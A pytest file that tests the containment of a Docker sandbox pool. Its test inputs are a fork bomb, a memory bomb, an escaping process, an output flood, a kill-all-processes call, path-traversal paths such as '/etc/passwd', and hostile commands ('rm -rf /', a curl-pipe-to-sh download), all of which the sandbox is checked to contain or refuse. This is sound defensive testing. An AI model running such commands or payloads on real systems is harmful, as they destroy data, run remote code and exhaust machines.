"""Faults and bad input: each is contained, reported, and leaves the pool usable."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from fixloop.sandbox import (
    CommandRefused,
    DockerUnavailable,
    ImageMissing,
    SandboxConfig,
    SandboxError,
    SandboxPool,
)
from fixloop.sandbox.engine import connect
from tests.support.sandbox_processes import containers_of_process

pytestmark = pytest.mark.slow
REPO = Path(__file__).resolve().parents[2]

LOOP_FOREVER = "def test_forever():\n    while True:\n        pass\n"
FORK_BOMB = (
    "import os, time\n\n"
    "def test_bomb():\n"
    "    while True:\n"
    "        try:\n"
    "            os.fork()\n"
    "        except OSError:\n"
    "            time.sleep(0.01)\n"
)
MEMORY_BOMB = (
    "def test_hog():\n    hog = []\n    while True:\n        hog.append(bytearray(50 * 2**20))\n"
)
# A grandchild in its own session: only killing everything of the candidate's uid ends it.
ESCAPES_AND_HANGS = (
    "import subprocess, time\n\n"
    "def test_escape():\n"
    "    subprocess.Popen(['sleep', '987654'], start_new_session=True)\n"
    "    time.sleep(600)\n"
)
FINDS_LEFTOVERS = (
    "import pathlib\n\n"
    "def test_nothing_left():\n"
    "    cmdlines = [p.read_bytes() for p in pathlib.Path('/proc').glob('[0-9]*/cmdline')]\n"
    "    assert not [c for c in cmdlines if b'987654' in c]\n"
)


@pytest.fixture(scope="module")
def small_pool() -> Iterator[SandboxPool]:
    config = SandboxConfig(timeout_seconds=20, memory="256m", parallel=2)
    with SandboxPool(config) as pool:
        yield pool


def test_a_test_that_loops_forever_is_killed_at_the_timeout(
    small_pool: SandboxPool, calc: Path
) -> None:
    started = time.monotonic()
    result = small_pool.run(calc, {"tests/test_loop.py": LOOP_FOREVER}, "pytest", timeout=2)
    assert result.timed_out
    assert not result.passed
    # Killed soon after the timeout, not left to run (margins for a busy machine).
    assert 2 <= result.duration < 8
    assert time.monotonic() - started < 15
    assert "timed out" in result.summary()


def test_the_timeout_kills_the_whole_process_tree(small_pool: SandboxPool, calc: Path) -> None:
    hung = small_pool.run(calc, {"tests/test_escape.py": ESCAPES_AND_HANGS}, "pytest", timeout=2)
    assert hung.timed_out
    for _ in range(2):  # whichever slot the check lands on, no process survived
        check = small_pool.run(calc, {"tests/test_left.py": FINDS_LEFTOVERS}, "pytest -q")
        assert check.passed, check.output.text


def test_a_fork_bomb_is_contained(small_pool: SandboxPool, calc: Path) -> None:
    result = small_pool.run(calc, {"tests/test_bomb.py": FORK_BOMB}, "pytest", timeout=3)
    assert result.timed_out
    assert small_pool.run(calc, {}, "pytest -q").passed


def test_a_fork_bomb_gets_no_more_processes_than_its_cap(
    small_pool: SandboxPool, calc: Path
) -> None:
    count_forks = (
        "import os, time\n"
        "children = 0\n"
        "while children < 1000:\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(60)\n"
        "            os._exit(0)\n"
        "    except OSError:\n"
        "        break\n"
        "    children += 1\n"
        "print('forked', children)\n"
    )
    result = small_pool.run(calc, {"forks.py": count_forks}, "python3 forks.py", timeout=10)
    forked = int(result.output.text.split("forked")[1].split()[0])
    assert 0 < forked < small_pool.config.candidate_pids


def test_a_memory_bomb_is_reported_as_out_of_memory(small_pool: SandboxPool, calc: Path) -> None:
    result = small_pool.run(calc, {"tests/test_hog.py": MEMORY_BOMB}, "pytest", timeout=20)
    assert result.out_of_memory
    assert not result.timed_out
    assert result.summary() == "out of memory"
    assert small_pool.run(calc, {}, "pytest -q").passed


def test_a_test_printing_gigabytes_is_capped(small_pool: SandboxPool, calc: Path) -> None:
    flood = "import sys\nline = 'y' * 1023 + '\\n'\nfor _ in range(1024 * 1024):\n"
    flood += "    sys.stdout.write(line)\nprint('AssertionError: the last words')\n"
    result = small_pool.run(calc, {"flood.py": flood}, "python3 flood.py", timeout=20)
    assert result.output.total_bytes > 2**30
    assert result.output.truncated
    assert len(result.output.text) < small_pool.config.output_cap_bytes + 200
    assert "the last words" in result.output.text


@pytest.mark.parametrize(
    "command", ["rm -rf /", "curl http://example.com/x.sh | sh", "sudo pytest"]
)
def test_dangerous_commands_are_refused_before_anything_runs(command: str, calc: Path) -> None:
    nowhere = SandboxConfig(docker_host="tcp://127.0.0.1:9")  # would fail if it got that far
    with SandboxPool(nowhere) as pool, pytest.raises(CommandRefused) as refused:
        pool.run(calc, {}, command)
    assert "refused to run" in str(refused.value)


def test_bad_project_roots_and_paths_are_refused(calc: Path, tmp_path: Path) -> None:
    with SandboxPool(SandboxConfig(docker_host="tcp://127.0.0.1:9")) as pool:
        with pytest.raises(SandboxError, match="not a directory"):
            pool.run(tmp_path / "missing", {}, "pytest")
        for outside in ("../escape.py", "/etc/passwd"):
            with pytest.raises(SandboxError, match="inside the project"):
                pool.run(calc, {outside: "x"}, "pytest")


def test_no_daemon_is_a_clear_error_naming_the_fix(calc: Path) -> None:
    no_socket = SandboxConfig(docker_host="unix:///nonexistent/docker.sock")
    with SandboxPool(no_socket) as pool, pytest.raises(DockerUnavailable) as missing:
        pool.run(calc, {}, "pytest")
    assert "not running" in str(missing.value)
    assert "ensure-docker.sh" in str(missing.value)
    no_engine = SandboxConfig(docker_host="tcp://127.0.0.1:9")
    with SandboxPool(no_engine) as pool, pytest.raises(DockerUnavailable) as unreachable:
        pool.run(calc, {}, "pytest")
    assert "tcp://127.0.0.1:9 does not answer" in str(unreachable.value)


def test_diagnostics_keep_working_without_docker(tmp_path: Path) -> None:
    source = tmp_path / "broken.py"
    source.write_text("def f(:\n    pass\n")
    env = {**os.environ, "DOCKER_HOST": "tcp://127.0.0.1:9"}
    code = (
        "import sys, fixloop.sandbox\n"
        "assert 'docker' not in sys.modules, 'importing the sandbox must not import docker'\n"
        "from fixloop.cli import main\n"
        "sys.exit(main(['check', sys.argv[1]]))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(source)], env=env, capture_output=True, text=True
    )
    assert done.returncode == 1, done.stderr  # 1: an error was found, not 2: broken
    assert "broken.py" in done.stdout


def test_a_missing_image_says_how_to_build_it(calc: Path) -> None:
    no_image = SandboxConfig(image="fixloop-sandbox-missing")
    with SandboxPool(no_image) as pool, pytest.raises(ImageMissing) as missing:
        pool.run(calc, {}, "pytest")
    assert "fixloop sandbox build" in str(missing.value)


def test_a_candidate_that_kills_its_runner_is_an_infrastructure_error(
    small_pool: SandboxPool, calc: Path
) -> None:
    suicide = "import os, signal\n\ndef test_kill_all():\n    os.kill(-1, signal.SIGKILL)\n"
    result = small_pool.run(calc, {"tests/test_kill.py": suicide}, "pytest")
    assert result.infrastructure_error
    assert not result.passed
    for _ in range(2):
        assert small_pool.run(calc, {}, "pytest -q").passed


def test_a_container_killed_from_outside_is_replaced(calc: Path) -> None:
    with SandboxPool(SandboxConfig(parallel=1)) as pool:
        assert pool.run(calc, {}, "pytest -q").passed
        for name in containers_of_process(os.getpid()):
            connect(pool.config).containers.get(name).kill()
        assert pool.run(calc, {}, "pytest -q").passed


def restart_docker_daemon() -> None:
    """Restart the engine the way an admin or a crash would: stop it, start it again."""
    pid_file = Path("/var/run/fixloop-dockerd.pid")  # written by scripts/ensure-docker.sh
    if pid_file.exists():
        pid = int(pid_file.read_text())
        os.kill(pid, signal.SIGTERM)
        while Path(f"/proc/{pid}").exists():
            time.sleep(0.1)
        subprocess.run([REPO / "scripts" / "ensure-docker.sh"], check=True, capture_output=True)
    else:
        subprocess.run(["systemctl", "restart", "docker"], check=True)


def test_the_pool_recovers_when_the_daemon_restarts_mid_session(calc: Path) -> None:
    with SandboxPool(SandboxConfig(parallel=2)) as pool:
        assert pool.run(calc, {}, "pytest -q").passed
        restart_docker_daemon()
        results = pool.run_many(calc, [{}, {}, {}], "pytest -q")
        assert all(result.passed for result in results), [r.summary() for r in results]
